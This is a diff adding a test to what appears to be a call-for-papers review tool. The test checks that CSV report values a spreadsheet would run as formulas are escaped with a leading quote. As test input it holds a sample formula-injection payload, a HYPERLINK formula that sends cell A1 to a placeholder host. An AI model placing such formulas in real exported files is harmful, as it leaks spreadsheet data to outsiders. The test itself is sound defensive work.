@@ -302,6 +302,18 @@ def test_the_csv_report_has_a_row_per_submission_and_related_talk(capsys, call_c
     assert by_submission["S2"][0]["duplicates"] == ""
 
 
+def test_text_a_spreadsheet_would_run_as_a_formula_is_written_as_text(capsys, tmp_path, sample_model_path):
+    hostile = '=HYPERLINK("http://example.invalid/?x="&A1,"ver")'
+    path = _write_csv(tmp_path / "cfp.csv", [{"id": "@SUM(1+1)", "title": hostile, "description": "-2+3 Kotlin"},
+                                             {"id": "ok", "title": "Kotlin - coroutines", "description": ""}])
+    assert _review(capsys, path, sample_model_path, "-o", tmp_path / "r.csv", "-n", "1")[0] == 0
+    with (tmp_path / "r.csv").open(newline="", encoding="utf-8") as handle:
+        rows = list(csv.DictReader(handle))
+    assert rows[0]["submission_id"] == "'@SUM(1+1)" and rows[0]["submission_title"] == "'" + hostile
+    assert rows[1]["submission_id"] == "ok" and rows[1]["submission_title"] == "Kotlin - coroutines"  # only a first character
+    assert not any(value.startswith(("=", "+", "-", "@")) for row in rows for value in row.values())
+
+
 class _Report(HTMLParser):
     """What a reader sees of the HTML report: the text of each submission's
     heading, and the scripts and links the file holds."""
